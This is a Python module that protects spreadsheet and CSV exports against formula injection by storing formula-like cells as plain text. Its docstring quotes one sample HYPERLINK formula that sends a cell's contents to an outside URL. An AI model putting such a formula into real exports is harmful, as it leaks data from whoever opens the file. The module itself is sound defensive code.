"""Spreadsheet cells from user or roster text are data, never formulas (OWASP CSV injection).

A parent who writes ``=HYPERLINK("http://…?d="&G3,"…")`` must not get a live
formula into the 问题整改台账 a principal opens in Excel. Every xlsx file is
passed through :func:`save_workbook` and every CSV value through
:func:`csv_value`; no export writes formulas on purpose.
"""

from __future__ import annotations

from pathlib import Path
from typing import TYPE_CHECKING, Any

if TYPE_CHECKING:
    from openpyxl import Workbook

# What spreadsheet programs read as the start of a formula (or a DDE payload).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def looks_like_formula(value: Any) -> bool:
    """Tell whether a text value would be read as a formula."""
    return isinstance(value, str) and value.startswith(FORMULA_STARTS)


def csv_value(value: Any) -> Any:
    """Return the value for a CSV cell: formula-like text gets a leading ``'`` (shown, never run)."""
    return "'" + value if looks_like_formula(value) else value


def protect(workbook: Workbook) -> int:
    """Store every formula-like text cell as plain text with Excel's quote prefix; return how many."""
    changed = 0
    for ws in workbook.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.data_type == "f" or looks_like_formula(cell.value):
                    cell.data_type = "s"
                    cell.quotePrefix = True  # Excel shows the text as typed and keeps it text when edited
                    changed += 1
    return changed


def save_workbook(workbook: Workbook, path: Path) -> Path:
    """Protect the workbook's cells, then save it (creating the folder)."""
    protect(workbook)
    path.parent.mkdir(parents=True, exist_ok=True)
    workbook.save(path)
    return path
